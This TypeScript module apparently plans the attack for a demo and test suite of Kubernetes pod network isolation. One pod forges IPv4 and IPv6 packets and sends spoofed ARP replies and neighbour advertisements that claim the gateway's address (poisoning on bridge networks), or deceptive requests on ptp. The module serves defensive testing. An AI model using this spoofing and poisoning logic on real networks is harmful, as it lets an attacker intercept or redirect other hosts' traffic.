/**
 * Plan of the demo's and tests' attack: one pod forges IPv4, IPv6, ARP and neighbour discovery. On
 * a bridge the victim receives ARP and ND; with ptp only the node does. Pure.
 */

import { ipv6Bytes } from '../frames.ts';
import type { CniPlugin } from '../plan.ts';
import {
  arpFrame,
  arpTail,
  neighbourAdvertFrame,
  neighbourSolicitFrame,
  neighbourTail,
  udp4Frame,
  udp6Frame,
} from './frames.ts';

export const ATTACK_VECTORS = ['ipv4', 'ipv6', 'arp', 'nd'] as const;
export type AttackVector = (typeof ATTACK_VECTORS)[number];

/** A pod as a party of an attack. */
export interface Party {
  uid: string;
  mac: string;
  ip4: string;
  ip6: string;
  gatewayMac: string;
  gateway4: string;
  gateway6: string;
}

export interface AttackStep {
  vector: AttackVector;
  frame: Buffer;
  /** Pod whose eth0 the witness observes, and the bytes that mark a landed frame. */
  witnessUid: string;
  marker: Buffer;
}

/**
 * @param victim on a bridge a pod of the attacker's node; with ptp any pod @param claimed innocent
 * owner of the forged address @param markers two random markers of 16 bytes for the two datagrams
 */
export function planAttack(
  cni: CniPlugin,
  parties: { attacker: Party; victim: Party; claimed: Party },
  markers: readonly [Buffer, Buffer],
): AttackStep[] {
  const { attacker, victim, claimed } = parties;
  const toMac = cni === 'bridge' ? victim.mac : attacker.gatewayMac;
  const link = { fromMac: attacker.mac, toMac };
  const datagrams: AttackStep[] = [
    {
      vector: 'ipv4',
      frame: udp4Frame({ ...link, from: claimed.ip4, to: victim.ip4 }, markers[0]),
      witnessUid: victim.uid,
      marker: markers[0],
    },
    {
      vector: 'ipv6',
      frame: udp6Frame({ ...link, from: claimed.ip6, to: victim.ip6 }, markers[1]),
      witnessUid: victim.uid,
      marker: markers[1],
    },
  ];
  return [...datagrams, ...(cni === 'bridge' ? poison(parties, link) : deceiveNode(parties, link))];
}

/**
 * Claims the gateway's address towards the victim, which would send its traffic to the attacker.
 */
function poison(
  { attacker, victim }: { attacker: Party; victim: Party },
  link: { fromMac: string; toMac: string },
): AttackStep[] {
  const arp = { ...link, from: victim.gateway4, to: victim.ip4 };
  const nd = { ...link, from: attacker.ip6, to: victim.ip6 };
  return [
    { vector: 'arp', frame: arpFrame(arp, 'reply'), witnessUid: victim.uid, marker: arpTail(arp) },
    {
      vector: 'nd',
      frame: neighbourAdvertFrame(nd, victim.gateway6),
      witnessUid: victim.uid,
      marker: neighbourTail(link, victim.gateway6),
    },
  ];
}

/**
 * Claims the innocent's address towards the node with a request. It landed if the node's answer to
 * the innocent arrives at the attacker.
 */
function deceiveNode(
  { attacker, claimed }: { attacker: Party; claimed: Party },
  link: { fromMac: string; toMac: string },
): AttackStep[] {
  const nd = { ...link, from: claimed.ip6, to: attacker.gateway6 };
  return [
    {
      vector: 'arp',
      frame: arpFrame({ ...link, from: claimed.ip4, to: attacker.gateway4 }, 'request'),
      witnessUid: attacker.uid,
      marker: arpTail({ fromMac: link.toMac, from: attacker.gateway4, toMac: attacker.mac, to: claimed.ip4 }),
    },
    {
      vector: 'nd',
      frame: neighbourSolicitFrame(nd, attacker.gateway6),
      witnessUid: attacker.uid,
      marker: Buffer.concat([ipv6Bytes(attacker.gateway6), ipv6Bytes(claimed.ip6)]),
    },
  ];
}
